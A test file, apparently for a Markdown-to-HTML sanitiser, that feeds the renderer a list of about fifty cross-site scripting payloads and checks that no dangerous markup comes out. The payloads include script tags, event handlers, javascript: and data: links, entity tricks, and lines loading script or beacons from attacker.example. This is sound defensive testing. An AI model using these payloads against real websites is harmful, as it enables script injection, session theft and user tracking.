import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { renderRichText } from './render-rich-text.ts';

/** Attributes that each tag may have; a tag that is not here may not be at all. */
const TAGS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p br hr blockquote ul li pre code em strong s h4 h5 h6 table thead tbody tr th td'
      .split(' ')
      .map((tag) => [tag, []]),
  ),
  a: ['href', 'rel', 'target'],
  ol: ['start'],
  span: ['class'],
};

/** What of rendered text a browser could take for more than words; empty when all is well. */
function dangersIn(rendered: string): readonly string[] {
  const dangers: string[] = [];
  const rest = rendered.replace(
    /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z]+="[^"<>]*")*)\s*(\/?)>/g,
    (tag, slash: string, name: string, attributes: string) => {
      const allowed = TAGS[name];
      if (allowed === undefined) dangers.push(tag);
      if (slash === '/' && attributes !== '') dangers.push(tag);
      for (const [, attribute = '', value = ''] of attributes.matchAll(/([a-z]+)="([^"]*)"/g)) {
        if (allowed?.includes(attribute) !== true) dangers.push(tag);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) dangers.push(tag);
        if (attribute === 'class' && !/^(link-target|picture)$/.test(value)) dangers.push(tag);
        if (attribute === 'start' && !/^\d+$/.test(value)) dangers.push(tag);
      }
      return '';
    },
  );
  return /[<>]/.test(rest) ? [...dangers, rest] : dangers;
}

/** Ways in which scripts have got into pages that render what people write. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//attacker.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<form><button formaction=javascript:alert(1)>x',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//attacker.example/>',
  '<style>@import "//attacker.example"</style>',
  '<details open ontoggle=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '"><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\u0000script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](//attacker.example)',
  '[x](/relative)',
  '[x](https://bank.example@attacker.example/)',
  '[x](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://attacker.example/beacon.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](x "onerror=alert(1)")',
  '![" onerror="alert(1)](https://a.example)',
  '[x](https://a.example "onclick=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[a](https://a.example)[b](https://b.example)',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u2028<script>alert(1)</script>\u2029',
  '<\u0000script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
];

describe('renderRichText', () => {
  it.each(PAYLOADS)('makes nothing but words of %j', (payload) => {
    for (const hasLinks of [true, false])
      expect(dangersIn(renderRichText(payload, { hasLinks }))).toEqual([]);
  });

  it('finds a danger where there is one', () => {
    for (const bad of [
      '<img src="x">',
      '<a href="javascript:x">',
      '<p onclick="x">',
      '<span class="admin">',
      'a < b',
    ])
      expect(dangersIn(bad)).not.toEqual([]);
  });

  it('makes nothing but words of any text', () => {
    const piece = fc.oneof(
      fc.constantFrom(...PAYLOADS),
      fc.constantFrom(
        ...'<>"\'`&[](){}!#*_~|\\-+=:;/ \n\t',
        '](',
        '![',
        '&#',
        'javascript:',
        'https://',
        '\n> ',
        '\n- ',
      ),
      fc.string({ unit: 'binary', maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (pieces, hasLinks) => {
        expect(dangersIn(renderRichText(pieces.join(''), { hasLinks }))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it.each([
    ['one\ntwo\n\nthree', '<p>one<br />\ntwo</p>\n<p>three</p>\n'],
    [
      '**bold** _em_ ~~gone~~ `code`',
      '<p><strong>bold</strong> <em>em</em> <s>gone</s> <code>code</code></p>\n',
    ],
    ['# Head', '<h4>Head</h4>\n'],
    ['3. three', '<ol start="3">\n<li>three</li>\n</ol>\n'],
    [
      '| a |\n|---|\n| b |',
      '<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n',
    ],
  ])('renders %j', (markdown, expected) => {
    expect(renderRichText(markdown)).toBe(expected);
  });

  it.each([
    '\\\\fileserver\\share\\_new',
    'C:\\temp\\*.exe',
    '[INFO]: service started',
    'Title\n=====',
    '    four blanks',
    'https://nobody-opens-this.example/x',
    'a < b & c > d',
    '{{team}} and {{part:host}}',
    'snake_case_name and 2 * 3 * 4',
  ])('loses and changes nothing of the plain text %j', (text) => {
    const words = renderRichText(text)
      .replace(/<br \/>/g, '')
      .replace(/<\/?p>/g, '')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&');
    expect(words.trim()).toBe(text.trim());
  });

  it('says where a link leads, in the form that is opened', () => {
    const rel = 'rel="noopener nofollow noreferrer" target="_blank"';
    expect(renderRichText('[your bank](https://bаnk.example/a b)')).not.toContain('<a');
    expect(renderRichText('[your bank](https://bаnk.example/)')).toBe(
      `<p><a href="https://xn--bnk-6cd.example/" ${rel}>your bank</a> <span class="link-target">(https://xn--bnk-6cd.example/)</span></p>\n`,
    );
    expect(renderRichText('<https://a.example/>')).toBe(
      `<p><a href="https://a.example/" ${rel}>https://a.example/</a></p>\n`,
    );
    expect(renderRichText('[us](mailto:soc@cirt.example)')).toContain('href="mailto:soc@cirt.example"');
  });

  it('has no links where a document is kept', () => {
    expect(renderRichText('[us](https://a.example/)', { hasLinks: false })).toBe(
      '<p>us <span class="link-target">(https://a.example/)</span></p>\n',
    );
  });

  it('fetches no picture, and says that there was one', () => {
    expect(renderRichText('![map](https://a.example/map.png)')).toBe(
      '<p><span class="picture">[picture: map (https://a.example/map.png)]</span></p>\n',
    );
  });

  it.each([
    ['brackets', '['.repeat(50_000)],
    ['quotes of quotes', '> '.repeat(20_000)],
    ['stars', '*a '.repeat(20_000)],
    ['backticks', '`a'.repeat(30_000)],
    ['half links', '[a]('.repeat(20_000)],
    ['pictures', '![a'.repeat(20_000)],
    ['entities', '&#x41;'.repeat(10_000)],
    ['less-thans', '<a '.repeat(20_000)],
    ['rows', `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n${'|\n'.repeat(20_000)}`],
  ])('ends soon for many %s', (_, text) => {
    const before = process.threadCpuUsage();
    expect(dangersIn(renderRichText(text))).toEqual([]);
    const { user, system } = process.threadCpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(5_000);
  });
});
